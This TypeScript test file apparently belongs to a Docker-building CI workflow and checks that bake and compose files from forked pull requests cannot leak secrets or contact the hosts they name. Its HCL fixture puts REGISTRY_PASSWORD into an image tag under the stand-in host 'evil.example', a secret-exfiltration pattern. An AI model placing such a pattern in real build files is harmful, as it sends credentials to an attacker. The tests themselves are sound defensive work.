import { chmod, mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import path from 'node:path'

import { SEED, Yard } from '../../support/events/planned'
import type { Visit } from '../../support/events/planned'
import type { FileChanges } from '../../support/git/fast-import'
import { otherPayload, pullRequestPayload, pushPayload } from '../../support/git/payloads'
import { loopbackNetwork } from '../../support/network/loopback'
import type { LoopbackNetwork } from '../../support/network/loopback'
import type { WorkflowEvent } from '../../support/runner/event'

/** Row 2 of docs/threat-model.md: files that describe images, written by whoever opened a pull request. */
let yard: Yard
let network: LoopbackNetwork
let bin: string
/** What the docker on the PATH was shown; it prints a target as buildx does. */
let seen: string

const SECRETS = { REGISTRY_PASSWORD: 'geheim-1', GITHUB_TOKEN: 'geheim-2', NPM_TOKEN: 'geheim-3' }
const HCL = 'variable "REGISTRY_PASSWORD" {}\ntarget "default" { tags = ["${REGISTRY_PASSWORD}.evil.example/app"] }\n'

beforeAll(async () => {
  yard = await Yard.open()
  network = await loopbackNetwork({ 'registry.example': '127.0.0.1:9' })
  bin = path.join(yard.sandbox.folder, 'bin')
  seen = path.join(yard.sandbox.folder, 'seen')
  await mkdir(bin)
  await docker(bin)
})

afterAll(() => Promise.all([yard.close(), network.close()]))
beforeEach(() => rm(seen, { force: true }))

async function docker(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true })
  const target = { default: { context: '.', dockerfile: 'Dockerfile', tags: ['ghcr.io/acme/app:1'] } }
  const script = `#!/bin/sh\ncase "$*" in *bake*) ;; *) exit ;; esac\n{ env; ls -A . "$HOME"; cat *.hcl; } >${seen}\necho '${JSON.stringify({ target })}'\n`
  await writeFile(path.join(folder, 'docker'), script)
  await chmod(path.join(folder, 'docker'), 0o755)
}

async function whatDockerSaw(): Promise<string | null> {
  return readFile(seen, 'utf8').catch(() => null)
}

/** One run of `event` with these files in its commit, on a network where those hosts are away. */
async function runOn(files: FileChanges, eventOf: (head: string) => WorkflowEvent, more: Partial<Visit> = {}) {
  const head = await yard.origin.commit({ ...SEED, ...files }, { parents: [] })
  const env = { ...network.env, ...SECRETS, PATH: `${bin}:${process.env['PATH'] ?? ''}`, ...more.env }
  const asked = network.refused.length
  const inputs = { push: 'false', 'on-registry-error': 'rebuild', ...more.inputs }
  const run = await yard.visit({ event: eventOf(head), commit: head, ...more, inputs, env })
  return { run, asked: network.refused.slice(asked) }
}

const fork = (head: string): WorkflowEvent => pullRequestPayload({ sha: head, head, base: head, from: 'guest/shop' })
const push = (head: string): WorkflowEvent => pushPayload({ after: head })

test('a bake file in HCL is evaluated without the environment, alone in a folder', async () => {
  const { run } = await runOn({ 'docker-bake.hcl': HCL, '.env': 'A=1\n' }, push)
  const said = (await whatDockerSaw()) ?? ''
  expect(said).toContain('variable "REGISTRY_PASSWORD"')
  expect(
    said.match(/^[A-Z_]+(?==)/gm)?.filter(name => !['PATH', 'HOME', 'PWD', 'OLDPWD', 'SHLVL', '_'].includes(name))
  ).toEqual([])
  expect(said).not.toMatch(/geheim|\.env|Dockerfile\n/)
  expect(run.stdout + JSON.stringify(run.outputs)).not.toContain('geheim')
})

test('an earlier step that edits it: no secret gets in, and nothing is pushed', async () => {
  const prepare = (workspace: string) =>
    writeFile(path.join(workspace, 'docker-bake.hcl'), HCL.replace('app"', 'other"'))
  const { run } = await runOn({ 'docker-bake.hcl': HCL }, push, { prepare, inputs: { push: 'true' } })
  expect(await whatDockerSaw()).not.toContain('geheim')
  expect([run.outputs['push'], run.warnings.join()]).toEqual(['false', expect.stringContaining('docker-bake.hcl')])
})

test.each(['pull_request_target', 'issue_comment', 'workflow_run'])('%s evaluates no HCL', async name => {
  for (const inputs of [{}, { commit: 'head' }]) {
    const { run } = await runOn(
      { 'docker-bake.hcl': HCL },
      head => ({ ...otherPayload(name, head), payload: fork(head).payload }),
      { inputs }
    )
    expect(await whatDockerSaw()).toBeNull()
    expect(run.code === 0 || run.errors.join().includes(name)).toBe(true)
  }
})

test('a docker in the work tree is not started', async () => {
  let folder = ''
  const prepare = async (workspace: string): Promise<void> => {
    folder = path.join(workspace, 'bin')
    await docker(folder)
  }
  const event = (head: string) => push(head)
  await runOn({ 'docker-bake.hcl': HCL }, event, { prepare, env: { PATH: `./bin:${path.dirname(process.execPath)}` } })
  expect(folder).not.toBe('')
  expect(await whatDockerSaw()).toBeNull()
})

const build = { context: '.', dockerfile: 'Dockerfile', tags: ['registry.evil.example/acme/app:1'] }
const described: readonly (readonly [string, FileChanges])[] = [
  ['bake file', { 'docker-bake.json': JSON.stringify({ target: { default: build } }) }],
  ['compose file', { 'compose.yaml': 'services: { app: { image: registry.evil.example/acme/app, build: . } }\n' }]
]

test.each(described)('a host that only a %s of a fork names is asked nothing', async (_, files) => {
  const { run, asked } = await runOn(files, fork)
  expect([run.code, asked]).toEqual([1, []])
  expect(run.errors.join()).toMatch(/registry\.evil\.example.*fork.*"registry"/)
})

test.each(described)('a host that only a %s of a commented pull request names is asked nothing', async (_, files) => {
  const main = await yard.origin.commit(SEED, { parents: [] })
  const event = () => ({ ...otherPayload('issue_comment', main), payload: fork(main).payload })
  const { asked } = await runOn(files, event, { inputs: { commit: 'head' } })
  expect(asked).toEqual([])
})

test.each(described)(
  'a host that a %s of the repository names is asked, without a login of the inputs',
  async (_, files) => {
    const inputs = { 'registry-username': 'robot', 'registry-password': 'geheim-4' }
    const { run, asked } = await runOn(files, push, { inputs })
    expect([run.code, asked]).toEqual([1, []])
    expect(run.errors.join()).toMatch(/registry\.evil\.example is named by a file/)
  }
)
